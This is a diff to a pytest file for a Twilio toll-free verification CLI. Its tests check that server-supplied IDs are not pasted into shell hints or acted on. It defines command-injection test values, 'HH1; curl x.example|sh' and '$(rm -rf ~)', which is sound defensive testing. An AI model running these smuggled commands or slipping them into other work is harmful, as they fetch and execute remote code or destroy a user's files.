@@ -10,7 +10,7 @@ from urllib.parse import quote_plus
 
 import pytest
 
-from conftest import ACCOUNT_SID, SERVICE_SID, page, service
+from conftest import ACCOUNT_SID, SERVICE_SID, base_url_of, page, service
 from corehelp import assert_request, sent
 from factories import save_profile
 from faults import Respond, fault_server  # noqa: F401 (fixture)
@@ -316,15 +316,32 @@ HOSTILE_SID = "HH1; curl x.example|sh"
 HOSTILE_NUMBER = "+18005550100 $(rm -rf ~)"
 
 
-def test_a_closed_rejections_hint_pastes_no_sid_or_number_that_is_not_one(msgsvc, profile, httpserver, verification_file):
-    closed = verification(sid=HOSTILE_SID, tollfree_phone_number=HOSTILE_NUMBER, status="TWILIO_REJECTED", edit_allowed=False)
+def test_a_closed_rejections_hint_pastes_no_number_that_is_not_one(msgsvc, profile, httpserver, verification_file):
+    closed = verification(sid=HH, tollfree_phone_number=HOSTILE_NUMBER, status="TWILIO_REJECTED", edit_allowed=False)
     httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(closed)
     result = msgsvc("tollfree", "update", HH, "--from-file", str(verification_file), "--edit-reason", "fixed")
     assert (result.code, result.out) == (1, "")
-    assert result.err == (f"msgsvc: verification {HOSTILE_SID} of {HOSTILE_NUMBER} cannot be edited: Twilio does not allow "
+    assert result.err == (f"msgsvc: verification {HH} of {HOSTILE_NUMBER} cannot be edited: Twilio does not allow "
                           "editing it (edit_allowed is false)\n"
-                          "hint: delete it and submit again: msgsvc tollfree delete VERIFICATION && "
+                          f"hint: delete it and submit again: msgsvc tollfree delete {HH} && "
                           "msgsvc tollfree create NUMBER --from-file FILE\n")
+    assert [r.method for r in sent(httpserver)] == ["GET"]
+
+
+@pytest.mark.parametrize("command", [["delete", "--yes"], ["update", "--edit-reason", "fixed"]])
+def test_an_answer_for_another_verification_is_refused_before_anything_is_sent(msgsvc, profile, httpserver,
+                                                                               verification_file, command):
+    """The DELETE or update goes to the SID of the record fetched: a server answering with
+    another one ('HH1; curl ...', or a real SID of another number) would have it sent there."""
+    verb, *options = command
+    if verb == "update":
+        options = ["--from-file", str(verification_file), *options]
+    other = verification(sid="HH" + "2" * 32)
+    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(other)
+    result = msgsvc("tollfree", verb, HH, *options)
+    assert (result.code, result.out) == (1, "")
+    assert result.err == (f"msgsvc: GET {base_url_of(httpserver)}{VERIFICATIONS}/{HH} answered with another toll-free "
+                          f"verification ('HH{'2' * 32}'); nothing was changed\n")
     assert [r.method for r in sent(httpserver)] == ["GET"]
 
 
